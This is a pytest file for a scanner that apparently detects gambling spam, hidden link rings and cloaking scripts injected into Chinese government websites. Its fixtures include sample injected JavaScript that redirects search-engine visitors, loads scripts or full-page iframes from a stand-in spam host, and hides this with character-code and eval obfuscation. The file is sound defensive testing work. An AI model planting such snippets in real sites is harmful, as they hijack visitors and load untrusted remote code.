from pathlib import Path

import pytest

from govspider.facts import Foreign
from govspider.reading import dom
from govspider.reading.tampering import foreign
from govspider.reading.terms import load_lexicon

LEXICON = load_lexicon(Path(__file__).parents[2] / "rules" / "lexicons")
URL = "http://www.example.gov.cn/"
BODY = "<h1>某某市某某局</h1><p>" + "认真贯彻落实各项工作部署,扎实推进为民办实事项目。" * 20 + "</p>"
RING = "".join(f'<a href="http://www.{host}/">{name}</a>' for host, name in [
    ("aaqp9.com", "棋牌游戏"), ("bbcp8.net", "彩票开奖"), ("ccxs7.cc", "小说全文阅读"), ("ddnk6.com", "男科医院")])  # fmt: skip
PLAIN_RING = "".join(f'<a href="http://www.{host}/">{name}</a>' for host, name in [
    ("aajx.com", "某某机械厂"), ("bbhg.net", "某某化工"), ("ccwl.cc", "某某物流"), ("ddzx.com", "某某装饰")])  # fmt: skip


def read(body: str, title: str = "某某市某某局", head: str = "") -> tuple[Foreign, ...]:
    page = (
        f"<!DOCTYPE html><html><head><meta charset=utf-8><title>{title}</title>{head}</head><body>{body}</body></html>"
    )
    return read_source(page)


def read_source(page: str) -> tuple[Foreign, ...]:
    doc = dom.parse(page.encode(), URL)
    return foreign(doc, URL, LEXICON, LEXICON.scan(doc.text).hits)


@pytest.mark.parametrize(
    "title",
    [
        "澳门新葡京娱乐场-官网",
        "bet365体育在线",
        "澳 门 新 葡 京 网址",
        "ＢＥＴ365体育",
        "百家乐_老虎机_真人娱乐平台",
        "某某局-时时彩平台_幸运飞艇",
    ],
)
def test_foreign_titles(title: str) -> None:
    assert {trace.where for trace in read(BODY, title)} == {"title"}


def test_a_title_in_numeric_references_is_decoded() -> None:
    coded = "".join(f"&#{ord(sign)};" for sign in "彩票开奖走势图")
    assert read(BODY, coded)[0].where == "title"
    unknown = "".join(f"&#{ord(sign)};" for sign in "乐竞电竞赛事直播吧")
    assert read(BODY, unknown)[0].where == "title"


def test_a_page_written_in_references_throughout_is_ordinary() -> None:
    coded = "".join(f"&#{ord(sign)};" for sign in "某某市某某局工作部署")
    assert read(BODY, coded) == ()
    waste = "".join(f"&#{ord(sign)};" for sign in "全面回收农药包装废弃物")
    assert read(BODY + "<h1>全面回收农药包装废弃物</h1>", waste) == ()


@pytest.mark.parametrize("name", ["keywords", "description"])
def test_foreign_tags(name: str) -> None:
    assert [trace.where for trace in read(BODY, head=f'<meta name="{name}" content="真人百家乐,某某局">')] == ["meta"]


@pytest.mark.parametrize(
    "opening",
    [
        '<div style="display:none">',
        '<div style="DISPLAY : NONE !important">',
        "<div hidden>",
        '<div style="visibility:hidden">',
        '<div style="position:absolute;left:-9999px">',
        '<div style="position:absolute; top:-1000px;">',
        '<div style="position:fixed;margin-left:-5000px">',
        '<div style="text-indent:-9999px">',
        '<div style="height:0;overflow:hidden">',
        '<div style="width:1px;height:1px;overflow:hidden;">',
        '<div style="font-size:0">',
        '<div style="font-size:1px;">',
        '<div style="opacity:0">',
        '<div style="opacity:0.0;filter:alpha(opacity=0)">',
        '<div style="color:#fff;background:#FFFFFF">',
        '<div style="color:white;background-color:#fff">',
        '<div style="transform:scale(0)">',
        '<div style="clip:rect(0,0,0,0);position:absolute">',
        '<marquee height="1" width="5" scrollamount="3000">',
        '<style>.qx{position:absolute;left:-3000px}</style><div class="a qx">',
        '<style>#zz1 { display : none }</style><div id="zz1">',
        "<noscript>",
        "<script>document.write('<div style=\"position:absolute;left:-900px;\">');</script>",
    ],
)
def test_hidden_rings_of_links(opening: str) -> None:
    closing = (
        "<script>document.write('</div>');</script>"
        if "script>" in opening and "noscript" not in opening
        else "</div></marquee></noscript>"
    )
    assert "hidden" in {trace.where for trace in read(f"{BODY}{opening}{RING}{closing}")}, opening
    assert "hidden" in {trace.where for trace in read(f"{BODY}{opening}{PLAIN_RING}{closing}")}, opening
    links = (
        '<a href="/tzgg/">通知公告</a><a href="/gzdt/">工作动态</a><a href="http://rsj.other.gov.cn/">某某人社局</a>'
    )
    assert read(f"{BODY}{opening}{links}{closing}") == ()


def test_one_hidden_link_with_a_strong_word_is_enough() -> None:
    assert read(f'{BODY}<div style="display:none"><a href="http://x.cc/">皇冠体育</a></div>')
    assert read(f'{BODY}<div style="display:none"><a href="http://www.bet365.com/">点击</a></div>')


def test_links_after_the_end_of_the_page_and_before_its_beginning() -> None:
    page = f"<!DOCTYPE html><html><head><title>某某局</title></head><body>{BODY}</body></html>"
    assert read_source(page + RING)
    assert read_source(page + PLAIN_RING)
    assert read_source(RING + page)
    assert (
        read_source(page + '<script src="/js/tj.js"></script><!-- 12 ms --><a href="http://www.soft.com/">技术支持</a>')
        == ()
    )


def test_unclosed_foreign_anchors_are_a_ring_even_when_visible() -> None:
    assert read(BODY + PLAIN_RING.replace("</a>", "<a>"))
    own = "".join(f'<a href="http://{name}.gov.cn/">某某局<a>' for name in ("aa", "bb", "cc", "dd", "ee"))
    assert read(BODY + own) == ()


@pytest.mark.parametrize(
    "script",
    [
        "if(/baidu|sogou|so\\.com/.test(document.referrer)){location.href='http://www.qp777.com/';}",
        "var s=document.referrer;if(s.indexOf('baidu')>0){document.write('<script src=\"http://js.qp777.com/a.js\"><\\/script>')}",
        "if(navigator.userAgent.toLowerCase().indexOf('baiduspider')>-1){document.write('<iframe src=\"//qp777.com/i.htm\"></iframe>')}",
        "document.write(String.fromCharCode(" + ",".join(str(ord(sign)) for sign in '<script src="http://a.qp777.com/x.js"></script>') + "))",
        "document.title='皇冠体育官网';",
        "var p='<html><body style=margin:0>无法找到该网页</body></html>';if(window.stop)window.stop();document.write(p);",
        "document.execCommand('Stop');window.document.writeln('<html><head></head><body></body></html>');",
        "document.write('<iframe src=\\'//qp777.com/i.htm\\' style=\"position:fixed;top:0;width:100%;height:100%\"></iframe>');",
        "document.title=String.fromCharCode(1,2);var t='" + "".join(f"\\x{byte:02x}" for byte in b"<title>bet365</title>") + "'",
        "window['\\x64']('" + "".join(f"\\x{byte:02x}" for byte in b"<script src=//a.qp777.com/x.js>") + "')",
        "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('2.1=\"澳门新葡京\"',3,3,'x|title|document'.split('|'),0,{}))",
    ],
)  # fmt: skip
def test_cloaking_and_obfuscated_scripts(script: str) -> None:
    assert read(f"{BODY}<script>{script}</script>")


@pytest.mark.parametrize(
    "html",
    [
        # statistics, badges, mobile switch, sharing
        "<script>var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?0';})();</script>",
        "<script>document.write(unescape(\"%3Cspan id='_ideConac'%3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/1.js'%3E%3C/script%3E\"));</script>",
        "<script>if(/iphone|android/i.test(navigator.userAgent)){location.href='http://m.example.gov.cn/'}</script>",
        "<script>if(navigator.userAgent.match(/mobile/i)){window.location='http://wap.example-app.com/'}</script>",
        "<script>var r=document.referrer;if(r.indexOf('baidu')>0){count('baidu')}</script>",
        "<script>document.title='某某市某某局';</script>",
        # whole pages written into new windows, for old browsers, to print; frames over the page of one's own or in a place
        "<script>function p(){var w=window.open('');w.document.write('<html><body>'+t+'</body></html>');w.stop&&window.stop()}</script>",
        "<script>if(/MSIE [678]/.test(navigator.userAgent)){document.execCommand('Stop');document.write('<html><body>请升级</body></html>')}</script>",
        "<script>function pr(){document.write('<html><body>'+t+'</body></html>');window.print();window.stop()}</script>",
        "<script>document.write('<iframe src=\\'//m.example.gov.cn/\\' style=\"position:fixed;width:100%;height:100%\"></iframe>')</script>",
        "<script>document.write('<iframe src=\\'//tq.weather-app.com/\\' style=\"width:100%;height:100%\"></iframe>')</script>",
        "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0.1(2)',3,3,'jQuery|fn|slide'.split('|'),0,{}))</script>",
        '<div style="display:none"><script src="https://s95.cnzz.com/z_stat.php?id=1"></script><a href="https://www.cnzz.com/stat">站长统计</a></div>',
        # hidden menus and tabs
        '<ul style="display:none"><li><a href="/a/">机构职能</a></li><li><a href="/b/">领导信息</a></li></ul>',
        '<div class="tab" style="display:none"><a href="/gb/1.html">打击网络赌博 严查百家乐</a><a href="/gb/2.html">通知</a></div>',
        # friends
        ('<h3>友情链接</h3><div style="display:none"><ul><li><a href="http://www.xx.gov.cn/">某某县</a></li><li><a href="http://www.bank-a.com/">某银行</a></li>'
        '<li><a href="http://www.paper-b.com/">某日报</a></li><li><a href="http://www.tv-c.com/">某电视台</a></li></ul></div>'),
        '<div class="links"><a href="http://www.sporttery.cn/">中国体育彩票</a><a href="http://www.cwl.gov.cn/">福利彩票</a><a href="http://www.a-edu.com/">自考网</a></div>',
        '<div style="opacity:0"><a href="http://www.a1.com/"><img src=1.jpg></a><a href="http://www.b1.com/"><img src=2.jpg></a><a href="http://www.c1.com/"><img src=3.jpg></a></div>',
        # news about the matter
        '<a href="/a/1.html">警方捣毁“皇冠体育”赌博网站</a><p>民警查获时时彩平台服务器若干,六合彩资料一批,犯罪嫌疑人已被刑拘。</p>',
        '<a href="http://www.paper-b.com/1.html">揭秘“澳门新葡京”网络赌博骗局</a>',
        '<iframe src="/login.html" width="0" height="0"></iframe><iframe src="https://www.jiathis.com/x" style="display:none"></iframe>',
        '<a class="logo" style="text-indent:-9999px" href="/">某某局</a>',
    ],
)  # fmt: skip
def test_ordinary_pages_raise_no_alarm(html: str) -> None:
    assert read(BODY + html) == ()


@pytest.mark.parametrize(
    "title",
    ["我局破获一起“时时彩平台”网络赌博案", "关于体育彩票销售网点的公告", "税务局提醒:代开发票请到办税服务厅", "谨防“注册送彩金”骗局", "中国福利彩票双色球开奖公告",
     "关于治理男科医院虚假广告的通知", "某某市美食节开幕", "教师资格证书发放通知", "自考毕业证遗失证明办理流程", "国外文凭认证指南",
     "城管修剪树枝确保交通信号灯无遮挡", "久久精品民宿入选省级名录", "外围女子监区道路改造工程中标结果"],
)  # fmt: skip
def test_ordinary_titles_raise_no_alarm(title: str) -> None:
    assert read(BODY, title) == ()


def test_visible_links_of_several_trades_are_a_trace_and_one_is_not() -> None:
    assert read(f"{BODY}<div>{RING}</div>")
    assert read(f'{BODY}<div><a href="http://www.nk.com/">某某男科医院</a></div>') == ()


def test_a_snippet_is_short_and_printable() -> None:
    trace = read(BODY, "澳门新葡京\u202e\x07" + "长" * 500)[0]
    assert len(trace.snippet) <= 80
    assert trace.snippet.isprintable()
    assert trace.family == "gambling"
